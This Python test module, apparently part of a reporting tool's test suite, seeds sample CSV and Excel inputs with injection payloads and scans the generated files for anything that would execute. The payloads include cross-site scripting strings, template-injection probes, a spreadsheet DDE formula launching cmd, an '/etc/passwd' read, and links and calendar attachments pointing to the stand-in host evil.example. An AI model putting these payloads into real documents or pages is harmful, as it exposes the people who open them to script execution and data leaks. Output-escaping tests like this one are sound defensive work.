"""Texts that try to run where they are read, put into the sample, and looked for in what comes out."""

import csv
import io
import json
import re
import shutil
import zipfile

import openpyxl
from lxml import html

from opsbook.config import DISTRIBUTION

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=2>",
    '"><svg onload=window.pwned=3>',
    "[tea](javascript:window.pwned=4)",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</script></textarea></title><iframe src=javascript:window.pwned=5>",
    "![x](http://evil.example/track.png) <base href=http://evil.example>",
    "#eval(read(\"/etc/passwd\")) $\\href{javascript:window.pwned=6}{x}$",
    "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:http://evil.example",
)  # fmt: skip
FORMS = {
    "comments.csv": ("text",), "messages.csv": ("text",), "tickets.csv": ("text",), "mentions.csv": ("text",),
    "posts.csv": ("post_title", "post_message"), "calendar_items.xlsx": ("title",),
    "accounts.xlsx": ("account_name",), "products.xlsx": ("name", "product_name"),
    "risks.xlsx": ("description", "risk"), "tasks.csv": ("title",),
}  # fmt: skip
EVERY = 9  # one row in so many


def poisoned(folder):
    """A copy of the sample's inbox in which strangers wrote the payloads; the folder."""
    shutil.copytree(DISTRIBUTION / "data" / "sample" / "inbox", folder)
    count = 0
    for name, columns in FORMS.items():
        path = folder / "forms" / name
        if path.suffix == ".csv":
            text = path.read_text(encoding="utf-8-sig")
            head, *rows = list(csv.reader(io.StringIO(text)))
            for row in rows[::EVERY]:
                for at in (head.index(c) for c in columns if c in head):
                    row[at] = f"{PAYLOADS[count % len(PAYLOADS)]} {row[at]}"
                    count += 1
            with open(path, "w", encoding="utf-8-sig", newline="") as out:
                csv.writer(out).writerows([head, *rows])
        else:
            book = openpyxl.load_workbook(path)
            sheet = book.active
            head = [str(c.value).strip().lower() for c in sheet[1]]
            for at in (head.index(c) for c in columns if c in head):
                for row in sheet.iter_rows(min_row=3, min_col=at + 1, max_col=at + 1):
                    if isinstance(row[0].value, str):
                        row[0].value = f"{PAYLOADS[count % len(PAYLOADS)]} {row[0].value}"
                        row[0].data_type = "s"
                        count += 1
            book.save(path)
    assert count > 500
    return folder


MARK = re.compile(r"pwned|evil\.example|cmd\|")


def faults(path):
    """(how often a payload is shown, what would execute) in one file."""
    name, data = path.name, path.read_bytes()
    if path.suffix == ".html":
        return _page(name, data.decode())
    if path.suffix == ".ipynb":
        seen, found = 0, []
        for cell in json.loads(data)["cells"]:
            for output in cell.get("outputs", ()):
                for kind, content in output.get("data", {}).items():
                    is_text = kind.startswith(("text/", "image/svg", "application/javascript"))
                    text = "".join(content) if is_text else json.dumps(content)
                    seen += len(MARK.findall(text))
                    if kind in ("text/html", "image/svg+xml"):
                        found += _page(name, text)[1]
                    if kind == "application/javascript":
                        found.append(f"{name}: a script as output")
        return seen, found
    if path.suffix == ".xlsx":
        return _workbook(name, path)
    if path.suffix == ".docx":
        with zipfile.ZipFile(path) as parts:
            links = " ".join(parts.read(n).decode() for n in parts.namelist() if n.endswith(".rels"))  # fmt: skip
            body = parts.read("word/document.xml").decode()
        fields = re.findall(r"<w:instrText[^>]*>([^<]*)", body)
        found = [f"{name}: {t}" for t in [*fields, *re.findall(r'Target="([^"]*)"', links)] if MARK.search(t)]  # fmt: skip
        return len(MARK.findall(body)), found
    if path.suffix == ".csv":
        found = []
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            found += [f"{name}: {c[:60]}" for c in row if c[:1] in "=+-@\t\r" and MARK.search(c)]
        return len(MARK.findall(data.decode("utf-8", "replace"))), found
    if path.suffix == ".ics":
        lines = data.decode().replace("\r\n ", "").splitlines()
        found = [f"{name}: {x}" for x in lines if x.startswith(("ATTACH", "ACTION:PROCEDURE"))]
        return sum(bool(MARK.search(x)) for x in lines), found
    return 0, []


def _page(name, text):
    seen = len(MARK.findall(text))
    found = []
    tree = html.fromstring(text) if text.strip() else None
    for node in tree.iter() if tree is not None else ():
        if not isinstance(node.tag, str):
            continue
        for key, value in node.attrib.items():
            scheme = re.sub(r"[\s\x00]", "", value).lower()
            if key.startswith("on"):
                found.append(f"{name}: <{node.tag} {key}={value[:60]}")
            if key in ("href", "src", "action", "xlink:href") and scheme.startswith(("javascript:", "vbscript:", "data:text")):  # fmt: skip
                found.append(f"{name}: <{node.tag} {key}={value[:60]}")
            if key == "src" and "evil.example" in value:
                found.append(f"{name}: fetches {value[:60]}")
        if node.tag == "script" and not node.get("type", "").endswith("json") and MARK.search(node.text or ""):  # fmt: skip
            found.append(f"{name}: a script holds a payload")
        if node.tag in ("iframe", "base", "object", "embed"):
            found.append(f"{name}: <{node.tag}>")
    return seen, found


def _workbook(name, path):
    seen, found = 0, []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                shown = MARK.search(str(cell.value))
                seen += bool(shown)
                if cell.data_type == "f" and shown:
                    found.append(f"{name} {sheet.title}!{cell.coordinate}: {cell.value}")
                if cell.hyperlink and MARK.search(str(cell.hyperlink.target)):
                    found.append(f"{name} {sheet.title}!{cell.coordinate}: {cell.hyperlink.target}")
    return seen, found
